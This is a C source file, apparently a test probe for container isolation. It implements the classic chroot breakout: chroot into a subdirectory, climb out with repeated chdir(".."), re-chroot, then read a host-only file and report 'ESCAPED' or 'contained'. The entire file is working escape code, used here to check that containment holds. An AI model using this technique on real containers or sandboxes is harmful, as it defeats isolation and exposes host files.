/* SPDX-License-Identifier: GPL-2.0-or-later */
/* chroot_escape PATH: the classic chroot breakout, run inside a container with
 * CAP_SYS_CHROOT: chroot into a subdirectory while the cwd stays outside it,
 * climb with chdir("..") and chroot("."), then try to open PATH (a file that
 * exists only on the host). Prints "ESCAPED: <first line>" and exits 0 if PATH
 * was reached, else prints "contained" and exits 1. Built static so it runs in
 * a busybox rootfs. */
#include <fcntl.h>
#include <string.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc != 2)
		return 2;
	mkdir("/.escape", 0700);
	if (chroot("/.escape") < 0) {
		perror("chroot");
		return 3;
	}
	for (int i = 0; i < 512; i++)
		if (chdir("..") < 0)
			break;
	if (chroot(".") < 0) {
		perror("chroot .");
		return 3;
	}
	char buf[256] = {0};
	int fd = open(argv[1], O_RDONLY);
	if (fd >= 0 && read(fd, buf, sizeof(buf) - 1) > 0) {
		buf[strcspn(buf, "\n")] = '\0';
		printf("ESCAPED: %s\n", buf);
		return 0;
	}
	printf("contained\n");
	return 1;
}
